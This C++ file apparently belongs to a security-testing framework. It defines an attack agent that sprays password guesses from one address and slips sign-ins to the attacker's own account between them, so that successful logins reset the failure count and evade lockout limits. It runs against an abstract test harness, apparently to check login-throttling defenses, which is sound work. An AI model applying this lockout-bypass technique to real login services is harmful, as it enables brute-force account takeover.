// guess-own-between: as guess-spray, and shortly before the limit the attacker begins to sign in to
// his own account from the same machine: where success takes the network's failures back, all of
// them or some, there is no limit.
#include "core/attack/every_agent.h"
#include "core/attack/guesser.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kBetween = 3;                          // guesses, and sign-ins of his own
constexpr Duration kUntilForgotten = std::chrono::hours(2);  // until all is as it was

http::Response spray_from(Guesser& guesser, std::string const& address) {
    http::Request one = guesser.request(guesser.name(), guesser.right());
    one.client_address = address;
    return guesser.guess(one);
}

class GuessOwnBetween final : public Agent {
    void run(Target& target) override {
        Guesser guesser(target);
        if (!guesser.can_try()) return;
        std::string const address = guesser.new_address();
        std::size_t limit = 0;
        while (!guesser.is_done(1)) limit += is_refused(spray_from(guesser, address)) ? 0 : 1;
        if (guesser.is_in() || limit <= kBetween) return;
        target.wait(kUntilForgotten);
        guesser.begin_anew();
        std::size_t left = limit - kBetween;
        while (!guesser.is_done()) {
            spray_from(guesser, address);
            if (--left > 0) continue;
            left = kBetween;
            for (std::size_t i = 0; i < kBetween; ++i)
                if (is_refused(sign_in_from(target, guesser, address))) left = kBetween * limit;
        }
    }

    static http::Response sign_in_from(Target& target, Guesser& guesser,
                                       std::string const& address) {
        Account const& self = target.surface().attacker;
        http::Request own = guesser.request(self.username, self.password);
        own.client_address = address;
        target.forget_cookies();
        return target.send(own);
    }
};

}  // namespace

std::unique_ptr<Agent> make_guess_own_between() { return std::make_unique<GuessOwnBetween>(); }

}  // namespace parapet::attack
